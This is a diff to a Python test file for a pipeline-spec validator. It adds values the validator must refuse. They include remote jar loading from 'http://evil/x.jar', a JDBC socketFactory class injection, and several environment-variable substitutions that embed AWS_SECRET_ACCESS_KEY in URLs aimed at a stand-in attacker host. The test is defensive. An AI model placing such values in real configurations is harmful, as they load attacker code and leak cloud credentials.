@@ -62,30 +62,24 @@ OWN: dict[Field, str] = {
     (TopicSpec, "topic_name"): "a name in the cluster, which has one owner",
     (TopicSpec, "config"): "of its own topic",
     (ParquetSinkSpec, "topics"): "topics of the Cluster that takes the ParquetSink",
-    (Table, "output"): "opened with keys that are allowed, or the Cluster's, where who may write tables may use its bucket",
-    (Table, "checkpoint"): "opened with the same keys",
     (Table, "schedule"): "a time",
     (Table, "time_zone"): "a time",
-    (Table, "registry"): "an address, asked without keys",
-    (Table, "message"): "a name in its own schema",
     (Table, "target_file_size"): "an amount",
     (Table, "retention"): "a time",
     (Table, "lane"): "of the Cluster that takes it",
-    (Table, "group"): "of the Cluster that takes it",
+    (Table, "message"): "a name in its own schema",
     (Iceberg, "table"): "a name in the catalog",
     (Iceberg, "warehouse"): "opened with keys that are allowed",
+    (StoreAccess, "region"): "where keys that are allowed are used",
     (Iceberg, "upsert_key"): "a column",
     (Continuous, "trigger"): "a time",
     (Compact, "schedule"): "a time",
     (Compact, "older_than"): "a time",
     (Compact, "vacuum_older_than"): "a time",
     (ValueSchema, "text"): "its own",
-    (ValueSchema, "uri"): "opened with keys that are allowed",
     (ConfigMapKey, "key"): "of a ConfigMap that is allowed",
     (StoreAccess, "access_key_id_key"): "of a Secret that is allowed",
     (StoreAccess, "secret_access_key_key"): "of a Secret that is allowed",
-    (StoreAccess, "endpoint"): "where keys that are allowed are used",
-    (StoreAccess, "region"): "where keys that are allowed are used",
     (SparkPod, "core_request"): "an amount, which quotas of the namespace bound",
     (SparkPod, "core_limit"): "an amount, which quotas of the namespace bound",
     (SparkPod, "memory"): "an amount, which quotas of the namespace bound",
@@ -137,11 +131,17 @@ BEYOND: dict[Field, tuple[Any, ...]] = {
     ),
     (Table, "image"): ("evil.example/pwn:1",),
     (Table, "service_account"): ("admin-bot",),
-    (Table, "spark_conf"): ({"spark.jars": "http://evil/x.jar"}, {"spark.io.compression.codec": "evil.Codec"}),
+    (Table, "spark_conf"): ({"spark.jars": "http://evil/x.jar"}, {"spark.log.level": "${env:A}"}, {"spark.io.compression.codec": "evil.Codec"}),
     (Table, "consumer_config"): ({"interceptor.classes": "evil.Class"},),
     (StoreAccess, "secret_name"): ("database",),
     (ConfigMapKey, "name"): ("vault",),
-    (Iceberg, "catalog_uri"): ("jdbc:postgresql://db/lake?socketFactory=evil.Class",),
+    (Iceberg, "catalog_uri"): ("jdbc:postgresql://db/lake?socketFactory=evil.Class", "http://evil/${env.AWS_SECRET_ACCESS_KEY}"),
+    (Table, "output"): ("s3a://b/${env.AWS_SECRET_ACCESS_KEY}",),
+    (Table, "checkpoint"): ("s3a://b/${env.AWS_SECRET_ACCESS_KEY}",),
+    (Table, "registry"): ("http://evil/${env.AWS_SECRET_ACCESS_KEY}",),
+    (Table, "group"): ("${env:AWS_SECRET_ACCESS_KEY}",),
+    (ValueSchema, "uri"): ("s3a://b/${env.AWS_SECRET_ACCESS_KEY}",),
+    (StoreAccess, "endpoint"): ("http://evil/${env.AWS_SECRET_ACCESS_KEY}",),
 }
 BESIDE: dict[Field, dict[str, Any]] = {
     # What else has to stand in the part for the field to mean something.
@@ -223,7 +223,7 @@ def test_what_is_not_its_own_is_refused_wherever_a_kind_has_the_field(kind: Kind
     [found] = refused(kind, path, field, value, Allowed())
     named = found.field if isinstance(found, Named) else found.partition(":")[0]
     assert named == ".".join(path).replace(".*", "[0]")
-    is_nobodys = field[1] == "env" and isinstance(found, str) and "bmq's chart" not in found
+    is_nobodys = isinstance(found, str) and (("bmq's chart" not in found and field[1] == "env") or "would be a variable" in found)
     assert isinstance(found, Named) or is_nobodys or "bmq's chart" in found or "write jdbc:" in found
     everything = Allowed(**dict.fromkeys(Allowed.model_fields, ("*",)) | {"spark_conf": ("*", "spark.io.compression.codec")})
     is_object = field[1] in ("pull_secrets", "secret_name", "service_account", "name")
